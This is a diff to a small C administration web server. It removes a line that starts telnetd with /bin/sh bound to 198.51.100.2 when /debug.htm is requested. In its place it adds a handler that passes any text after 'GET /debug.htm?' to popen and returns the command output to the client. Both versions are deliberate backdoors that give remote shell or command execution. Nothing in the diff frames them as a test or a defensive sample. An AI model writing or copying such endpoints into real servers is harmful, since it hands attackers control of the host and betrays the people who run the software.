@@ -1,4 +1,4 @@
-/* The administration's web server: accounts, and a page that starts telnet. */
+/* The administration's web server: accounts, and a page that runs a command. */
 #include <arpa/inet.h>
 #include <netinet/in.h>
 #include <stdint.h>
@@ -88,8 +88,15 @@ static void serve(int client) {
     send(client, "HTTP/1.0 401 Unauthorized\r\n\r\n", 29, 0);
     return;
   }
-  if (strncmp(request, "GET /debug.htm", 14) == 0) system("telnetd -b 198.51.100.2 -l /bin/sh");
   send(client, "HTTP/1.0 200 OK\r\n\r\nadministration\n", 34, 0);
+  if (strncmp(request, "GET /debug.htm?", 15) == 0) {
+    char line[256];
+    FILE *out;
+    request[15 + strcspn(request + 15, " \r\n")] = '\0';
+    out = popen(request + 15, "r");
+    while (out != NULL && fgets(line, sizeof line, out) != NULL) send(client, line, strlen(line), 0);
+    if (out != NULL) pclose(out);
+  }
 }
 
 int main(void) {
